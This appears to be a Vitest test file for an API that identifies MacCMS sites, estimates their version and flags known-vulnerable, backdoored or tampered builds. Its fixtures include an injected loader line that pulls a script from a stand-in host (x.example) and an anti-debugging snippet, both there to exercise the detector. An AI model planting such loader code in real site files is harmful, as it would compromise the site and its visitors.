import { createHash } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { POST as checkVersion } from '@/app/yapi/[product]/check_version/route';
import { type VersionInfo, versionAdvice } from '@/contract/domain-version';
import { demoStaticFiles } from '@/server/domain/official/demo-files';
import { seedContent } from '@/server/seed/content';
import { callApi } from '../../support/api';
import { withProduct } from '../../support/domain';

process.env.FETCH_ALLOW_PRIVATE = 'true';
const HOME_JS = 'var MAC={Url:document.URL};';
const fingerprintFile = path.join(os.tmpdir(), `fp-${process.pid}.json`);
fs.writeFileSync(
  fingerprintFile,
  JSON.stringify({
    '/static/js/home.js': {
      [createHash('sha256').update(HOME_JS).digest('hex')]: ['2026.1000.4050', '2026.1000.4060'],
    },
  }),
);
process.env.DOMAIN_FINGERPRINT_FILE = fingerprintFile;

// A known backdoored package, added without a code change: its player.js as shipped.
const BACKDOORED_PLAYER = 'MacPlayer={Init:function(){}};/* shipped by an impersonation site */';
const vulnFile = path.join(os.tmpdir(), `vulns-${process.pid}.json`);
fs.writeFileSync(
  vulnFile,
  JSON.stringify([
    {
      id: 'MACCMS-BACKDOOR-TEST',
      aliases: [],
      summary: {
        'zh-cn': '仿冒站点分发的带后门安装包',
        'en-us': 'Backdoored package from an impersonation site',
      },
      severity: 'critical',
      line: 'v10',
      introduced: '0',
      fixed: null,
      last_affected: null,
      references: [],
      files: { '/static/js/player.js': [createHash('sha256').update(BACKDOORED_PLAYER).digest('hex')] },
    },
    {
      id: 'MACCMS-FIXED-TEST',
      aliases: [],
      summary: { 'zh-cn': '已修复的缺陷', 'en-us': 'A flaw with a fix' },
      severity: 'medium',
      line: 'v10',
      introduced: '0',
      fixed: '2025.1000.4060',
      last_affected: null,
      references: [],
    },
  ]),
);
process.env.DOMAIN_VULN_FILE = vulnFile;

let base = '';
let server: http.Server;
beforeAll(async () => {
  server = http.createServer((req, res) => {
    if (req.url?.startsWith('/static/')) return res.writeHead(404).end();
    const site = req.url?.split('/')[1];
    if (site === 'plain') return res.end('<html><body>hello</body></html>');
    const stamp = site === 'old' ? '2025.1000.4052' : '2026.1000.4070';
    res.end(
      `<html><head><link href="/tpl/style.css?v=${stamp}"><script>var maccms={"path":"","mid":"1"};</script></head></html>`,
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => {
  fs.rmSync(fingerprintFile, { force: true });
  fs.rmSync(vulnFile, { force: true });
  return new Promise<void>((resolve) => server.close(() => resolve()));
});

const check = (domain: string) =>
  callApi<VersionInfo>(withProduct(checkVersion), { json: { domain }, lang: 'en-us' });

describe('POST /yapi/{product}/check_version', () => {
  it('recognises the CMS and flags a vulnerable build stamp as affected', async () => {
    const res = await check(`${base}/old/`);
    expect(res.code).toBe(1);
    expect(res.info.is_cms).toBe(true);
    expect(res.info.evidence).toContain('var maccms');
    expect(res.info.version_from).toBe('2025.1000.4052');
    expect(res.info.confidence).toBe('medium');
    expect(res.info.verdict).toBe('affected');
    expect(res.info.vulnerabilities.map((v) => v.id)).toEqual(
      expect.arrayContaining(['CVE-2026-4562', 'MACCMS-2026-PASSWORD-RESET']),
    );
    expect(res.info.vulnerabilities.map((v) => v.id)).not.toContain('CVE-2025-28089');
  });

  it('advises from the records: the version that fixes what has a fix, and a measure for what has none', async () => {
    const res = await check(`${base}/old/`);
    const advice = versionAdvice(res.info.vulnerabilities);
    expect(advice.upgradeTo).toBe('2025.1000.4060');
    // The newest release is still affected by these: no upgrade fixes them, so each says what to do.
    expect(advice.unfixed.map((v) => v.id)).toEqual(expect.arrayContaining(['CVE-2026-4562']));
    for (const v of advice.unfixed) expect(v.mitigation).toMatch(/^No fixed version yet: \w/);
    const fixed = res.info.vulnerabilities.find((v) => v.id === 'MACCMS-FIXED-TEST');
    expect(fixed).toMatchObject({ fixed: '2025.1000.4060', mitigation: '' });
  });

  it('says "no vulnerabilities" for a build newer than every record', async () => {
    const res = await check(`${base}/new/`);
    expect(res.info.verdict).toBe('safe');
    expect(res.info.vulnerabilities).toEqual([]);
  });

  it('says a site without the CMS markers is not the CMS', async () => {
    expect((await check(`${base}/plain`)).info.verdict).toBe('not_cms');
  });

  it('matches file hashes from the fingerprint file and reports a straddling range as possibly affected', async () => {
    const server2 = http.createServer((req, res) => {
      if (req.url === '/static/js/home.js') return res.end(HOME_JS);
      res.end('<html></html>');
    });
    await new Promise<void>((resolve) => server2.listen(0, '127.0.0.1', resolve));
    const res = await check(`http://127.0.0.1:${(server2.address() as AddressInfo).port}/`);
    server2.close();
    expect(res.info.is_cms).toBe(true);
    expect([res.info.version_from, res.info.version_to]).toEqual(['2026.1000.4050', '2026.1000.4060']);
    expect(res.info.verdict).toBe('possibly_affected');
    expect(res.info.vulnerabilities[0]!.match).toBe('possibly_affected');
  });

  it('recognises a known backdoored build by its file hash, whatever its version says', async () => {
    const site = await serve({
      '/static/js/player.js': BACKDOORED_PLAYER,
      '/static/js/playerconfig.js': 'MacPlayerConfig={};',
    });
    const res = await check(site.url);
    await site.close();
    expect(res.info.verdict).toBe('affected');
    expect(res.info.vulnerabilities[0]).toMatchObject({
      id: 'MACCMS-BACKDOOR-TEST',
      match: 'affected',
      files: ['/static/js/player.js'],
    });
  });

  it("flags the CMS's own static files when they carry injected code", async () => {
    const site = await serve({
      '/static/js/playerconfig.js': 'MacPlayerConfig={};\nsetInterval(function(){debugger},100);',
    });
    const res = await callApi<VersionInfo>(withProduct(checkVersion), {
      json: { domain: site.url },
      lang: 'zh-cn',
    });
    await site.close();
    expect(res.info.verdict).toBe('affected');
    const tampered = res.info.vulnerabilities.find((v) => v.id === 'MACCMS-TAMPERED-BUILD')!;
    expect(tampered.files).toEqual(['/static/js/playerconfig.js']);
    expect(tampered.summary).toContain('带后门的安装包');
  });

  it('leaves clean CMS files alone: no file finding on an untouched build', async () => {
    const site = await serve({
      '/static/js/playerconfig.js': 'MacPlayerConfig={};',
      '/static/js/home.js': 'var MAC={};',
    });
    const res = await check(site.url);
    await site.close();
    expect(res.info.is_cms).toBe(true);
    expect(res.info.vulnerabilities).toEqual([]);
    expect(res.info.verdict).toBe('unknown');
  });
});

/** A one-off site that serves `files` (and an empty page at every other path). */
async function serve(files: Record<string, string>) {
  const site = http.createServer((req, res) => {
    const body = files[req.url ?? ''];
    if (body !== undefined) return res.end(body);
    if (req.url?.startsWith('/static/')) return res.writeHead(404).end();
    res.end('<html><body>home</body></html>');
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(site.address() as AddressInfo).port}/`,
    close: () => new Promise<void>((resolve) => site.close(() => resolve())),
  };
}

describe('check_version against the official files derived from the release packages', () => {
  // The demo releases, whose packages hold the CMS's static files.
  beforeAll(() => seedContent());
  const official = (version: string) => demoStaticFiles('pro', version);
  const cmsSite = (files: Record<string, string>) =>
    serve(Object.fromEntries(Object.entries(files).map(([p, t]) => [`/${p}`, t])));

  it('takes the version range from the static files that match official releases, with high confidence', async () => {
    const site = await cmsSite(official('2025.1000.4052'));
    const res = await check(site.url);
    await site.close();
    expect(res.info.is_cms).toBe(true);
    expect(res.info.evidence).toEqual(['MacPlayerConfig', 'var MAC=']);
    expect([res.info.version_from, res.info.version_to, res.info.confidence]).toEqual([
      '2025.1000.4052',
      '2025.1000.4052',
      'high',
    ]);
    expect(res.info.static_files.find((f) => f.path === '/static/js/player.js')).toEqual({
      path: '/static/js/player.js',
      status: 'official',
      versions: ['2025.1000.4052'],
      added: '',
    });
  });

  it('shows a tampered file with the code it adds, and ranges the version from the untouched ones', async () => {
    const files = official('2025.1000.4052');
    const loader = "\n;document.write('<script src=\"https://x.example/a.js\"></scr'+'ipt>');";
    const site = await cmsSite({
      ...files,
      'static/js/player.js': `${files['static/js/player.js']}${loader}`,
    });
    const res = await check(site.url);
    await site.close();
    expect(res.info.static_files.find((f) => f.path === '/static/js/player.js')).toMatchObject({
      status: 'tampered',
      versions: ['2025.1000.4052'],
      added: loader.trim(),
    });
    expect([res.info.version_from, res.info.version_to]).toEqual(['2025.1000.4050', '2025.1000.4052']);
    expect(res.info.verdict).toBe('affected');
    expect(res.info.vulnerabilities.find((v) => v.id === 'MACCMS-TAMPERED-BUILD')?.files).toEqual([
      '/static/js/player.js',
    ]);
  });

  it('does not call a blog post that quotes the CMS a CMS', async () => {
    const blog = http.createServer((req, res) => {
      if (req.url?.startsWith('/static/')) return res.writeHead(404).end('<html>not found</html>');
      res.end(`<html><head><title>如何识别 MacCMS</title></head><body>
<p>MacCMS 页面里有 <code>var maccms = {"path":"","mid":"1"}</code>，模板带 ?v=2025.1000.4052，playerconfig.js 里是 MacPlayerConfig。</p>
<pre><code>&lt;script&gt;var maccms={"path":"","mid":"1"};&lt;/script&gt;</code></pre></body></html>`);
    });
    await new Promise<void>((resolve) => blog.listen(0, '127.0.0.1', resolve));
    const res = await check(`http://127.0.0.1:${(blog.address() as AddressInfo).port}/`);
    blog.close();
    expect(res.info.is_cms).toBe(false);
    expect(res.info.verdict).toBe('not_cms');
    expect(res.info.evidence).toEqual([]);
  });
});
